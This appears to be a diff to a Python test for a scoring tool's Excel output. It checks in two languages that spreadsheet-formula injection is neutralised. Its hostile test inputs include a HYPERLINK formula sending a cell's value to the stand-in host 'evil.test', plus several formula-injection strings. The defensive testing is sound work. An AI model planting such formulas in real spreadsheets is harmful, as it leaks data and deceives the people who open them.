@@ -10,6 +10,7 @@ import json
 from pathlib import Path
 
 import pandas as pd
+import pytest
 from openpyxl import load_workbook
 from scoring_fixtures import VERDICTS, add_overrides, organisations, products, verdict_rows
 
@@ -17,6 +18,8 @@ from digimeter.model import Organisation
 from digimeter.runstore import RunStore
 from review.sheets import write_sheets
 from scoring.run import score_run
+from scoring.sheetnames import sheet_title
+from scoring.tables import TABLES_BY_NAME
 
 HYPERLINK = '=HYPERLINK("http://evil.test/?"&A1,"klik")'
 HOSTILE = (HYPERLINK, "=1+2", "+SUM(1;2)", "-2+3", "@SUM(A1)", "\tTAB=1+1", "\rCR=1+1")
@@ -67,9 +70,10 @@ def formula_cells(path: Path) -> tuple[list[str], dict[str, int]]:
     return formulas, found
 
 
-def test_the_score_workbook_holds_no_formula(tmp_path: Path) -> None:
+@pytest.mark.parametrize("lang", ["nl", "en"])
+def test_the_score_workbook_holds_no_formula(tmp_path: Path, lang: str) -> None:
     run = hostile_run(tmp_path / "run")
-    result = score_run(run)
+    result = score_run(run, lang=lang)
     formulas, found = formula_cells(result.out_dir / f"digimeter-{result.run_id}.xlsx")
     assert formulas == []
     assert found["=1+2"] > 0 and found["-2+3"] > 0 and found["@SUM(A1)"] > 0
@@ -79,14 +83,13 @@ def test_the_score_workbook_holds_no_formula(tmp_path: Path) -> None:
         for ws in workbook.worksheets
         if any(c.value == HYPERLINK for r in ws.iter_rows() for c in r)
     }
-    # The organisation name of the issue: a live link in four sheets before; text now.
-    assert {
-        "scores_organisations",
-        "top_bottom",
-        "not_found_unreachable",
-        "overrides_applied",
-    } <= names
-    applied = workbook["overrides_applied"]
+    # The organisation name of the issue: a live link in four sheets before; text now (and
+    # in the verdicts sheet).
+    tables = ["scores_organisations", "top_bottom", "not_found_unreachable",
+              "overrides_applied", "verdicts_scored"]  # fmt: skip
+    sheets = {name: sheet_title(TABLES_BY_NAME[name], lang) for name in tables}
+    assert set(sheets.values()) <= names
+    applied = workbook[sheets["overrides_applied"]]
     values = [c.value for r in applied.iter_rows() for c in r]
     assert "=2*3" in values and "@reviewer" in values
     # The CSV and Parquet files keep the exact text.
